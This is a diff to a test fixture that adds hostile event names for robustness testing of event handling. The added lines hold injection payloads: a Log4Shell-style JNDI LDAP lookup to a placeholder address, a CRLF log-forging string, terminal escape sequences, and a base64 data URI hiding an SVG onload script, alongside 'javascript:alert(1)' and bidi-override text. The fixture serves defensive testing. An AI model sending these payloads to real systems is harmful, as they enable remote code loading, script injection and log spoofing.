@@ -28,6 +28,12 @@ export function hostileEvents(organization = testOrg()): RawEvent[] {
     named("first line\r\nsecond,line;\ttab"),
     named(`${"é".normalize("NFD")}\u200b\ufeff`),
     named("W".repeat(200_000)),
+    // Text that a log, a terminal, a shell or a spreadsheet further on would act upon.
+    named("$" + "{jndi:ldap://203.0.113.9/a}"),
+    named('\r\n{"level":"fatal","msg":"forged"}'),
+    named("\u001b[2J\u001b]0;title\u0007"),
+    named("data:text/html;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+"),
+    named("\u202e\u2066ltr\u2069 שלום"),
     one({ event_type: "javascript:alert(1)", service: "directory" }),
     one({ event_type: "never_heard_of", service: "not_a_service" }),
     one({ event_type: "" }),
